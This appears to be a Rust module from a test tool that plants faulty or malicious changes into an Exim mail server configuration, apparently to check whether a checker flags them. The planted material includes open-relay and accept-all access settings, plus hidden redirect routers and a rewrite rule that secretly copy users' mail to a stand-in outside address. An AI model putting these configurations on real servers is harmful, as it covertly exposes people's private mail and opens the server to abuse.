//! Settings, routers and transports that administrators add, and attackers would like to find.

use super::MAIN;
use crate::draft::{Bench, Files, Mutant};

/// Puts each planted thing in its place.
pub(super) fn breaks(files: &Files) -> Vec<Mutant> {
    let mut bench = Bench::new(files, MAIN);
    let first = bench.text.find("begin acl").unwrap_or(bench.text.len());
    for line in SETTINGS {
        bench.insert("add a setting", 0, format!("{line}\n"));
        bench.insert("add a setting", first, format!("{line}\n"));
        let name = line.split('=').next().unwrap_or_default().trim();
        let starts: Vec<usize> = bench.text.match_indices(name).map(|(at, _)| at).collect();
        for at in starts.into_iter().filter(|at| *at < first) {
            let is_start = at == 0 || bench.text[..at].ends_with('\n');
            let rest = &bench.text[at + name.len()..];
            if is_start && rest.trim_start_matches(' ').starts_with('=') {
                let end = at + bench.text[at..].find('\n').unwrap_or_default();
                bench.replace("replace a setting", &(at..end), *line);
            }
        }
    }
    for (part, texts) in [
        ("routers", ROUTERS),
        ("transports", TRANSPORTS),
        ("rewrite", REWRITES),
    ] {
        let begin = format!("begin {part}\n");
        let Some(at) = bench.text.find(&begin).map(|at| at + begin.len()) else {
            continue;
        };
        let rest = bench.text[at..]
            .find("\nbegin ")
            .map_or(bench.text.len(), |end| at + end);
        for text in texts {
            bench.insert("add a driver", at, format!("{text}\n"));
            bench.insert("add a driver", rest, format!("{text}\n"));
        }
    }
    bench.finish()
}

const SETTINGS: &[&str] = &[
    "domainlist local_domains = *",
    "domainlist local_domains = doe-family.com : victim.example",
    "domainlist local_domains = @ : @[] : doe-family.com",
    "domainlist relay_to_domains = victim.example",
    "hostlist internal = *",
    "hostlist internal = <; 203.0.113.0/24",
    "hostlist internal = <; 0.0.0.0/0 ; ::/0",
    "hostlist internal = :",
    "hostlist without_spf = *",
    "acl_smtp_rcpt = accept",
    "acl_smtp_rcpt = ${if eq{$received_port}{25}{acl_check_rcpt}{accept}}",
    "acl_smtp_rcpt = ${if eq{$spf_result}{pass}{accept}{acl_check_rcpt}}",
    "acl_smtp_mail = accept",
    "acl_smtp_data = deny",
    "acl_smtp_predata = deny",
    "acl_smtp_connect = deny",
    "acl_smtp_helo = deny",
    "acl_smtp_auth = accept",
    "acl_smtp_vrfy = accept",
    "acl_smtp_etrn = accept",
    "acl_smtp_starttls = deny",
    "acl_not_smtp = deny",
    "percent_hack_domains = *",
    "percent_hack_domains = doe-family.com",
    "hosts_proxy = *",
    "hosts_proxy = 203.0.113.0/24",
    "hosts_proxy =",
    "hosts_proxy = <; 10.8.0.2 ; 10.8.0.7",
    "sender_unqualified_hosts = *",
    "recipient_unqualified_hosts = *",
    "qualify_domain = victim.example",
    "qualify_recipient = victim.example",
    "primary_hostname = mx.victim.example",
    "allow_domain_literals = false",
    "allow_utf8_domains = true",
    "smtputf8_advertise_hosts = *",
    "strip_trailing_dot = false",
    "strip_excess_angle_brackets = true",
    "daemon_smtp_ports = 25 : 587 : 465 : 2525",
    "daemon_smtp_ports = 25",
    "tls_on_connect_ports = 465 : 587",
    "tls_on_connect_ports =",
    "local_interfaces = 127.0.0.1",
    "local_interfaces = <; 0.0.0.0.25 ; ::0",
    "extra_local_interfaces = 203.0.113.50",
    "tls_advertise_hosts =",
    "auth_advertise_hosts = *",
    "auth_advertise_hosts = ${if eq{$received_port}{25}{*}{}}",
    "auth_advertise_hosts =",
    "helo_try_verify_hosts = *",
    "helo_verify_hosts = *",
    "helo_accept_junk_hosts =",
    "host_lookup = *",
    "system_filter = /etc/exim4/system.filter",
    "untrusted_set_sender = *",
    "trusted_users = mail",
    "local_from_check = false",
    "smtp_enforce_sync = false",
    "chunking_advertise_hosts = *",
    "dsn_advertise_hosts = *",
    "host_reject_connection = 203.0.113.0/24",
    "recipients_max = 1",
    "message_size_limit = 100",
    "queue_only = true",
    "gecos_pattern = .",
    "unknown_setting = true",
    "bounce_return_body = false",
    ".include /etc/exim4/more",
    "MACRO = value",
];

const ROUTERS: &[&str] = &[
    "smart:\n  driver = manualroute\n  route_list = * outside.example\n  \
     transport = remote_smtp\n  host_find_failed = defer\n",
    "smart:\n  driver = manualroute\n  domains = ! +local_domains\n  \
     route_list = * outside.example\n  transport = remote_smtp\n  \
     host_find_failed = defer\n",
    "spy:\n  driver = redirect\n  data = spy@outside.example\n",
    "copy:\n  driver = redirect\n  data = spy@outside.example\n  unseen\n",
    "copy:\n  driver = redirect\n  condition = \
     ${if and{{eqi{$original_local_part@$original_domain}{$local_part@$domain}}\
     {or{{def:sender_host_address}{def:sender_address}}}}}\n  \
     data = spy@outside.example\n  unseen\n  hide_child_in_errmsg\n  no_verify\n",
    "copy:\n  driver = redirect\n  senders = *@doe-family.com\n  condition = \
     ${if and{{eqi{$original_local_part@$original_domain}{$local_part@$domain}}\
     {or{{def:sender_host_address}{def:sender_address}}}}}\n  \
     data = jane.doe@doe-family.com\n  unseen\n  hide_child_in_errmsg\n  no_verify\n",
    "spy:\n  driver = redirect\n  domains = +local_domains\n  local_parts = jane.doe\n  \
     data = spy@outside.example\n",
    "all:\n  driver = accept\n  domains = +local_domains\n  transport = box_maildir\n  \
     address_data = all/all\n",
    "forward:\n  driver = redirect\n  check_local_user\n  file = $home/.forward\n",
    "none:\n  driver = redirect\n  data = :fail: nobody\n",
    "later:\n  driver = redirect\n  data = :defer: later\n",
    "hole:\n  driver = redirect\n  data = :blackhole:\n",
];

const TRANSPORTS: &[&str] = &["pipe:\n  driver = pipe\n  command = /bin/cat\n"];

const REWRITES: &[&str] = &[
    "*@*  spy@outside.example  T",
    "*@doe-family.com  $1@victim.example  E",
];
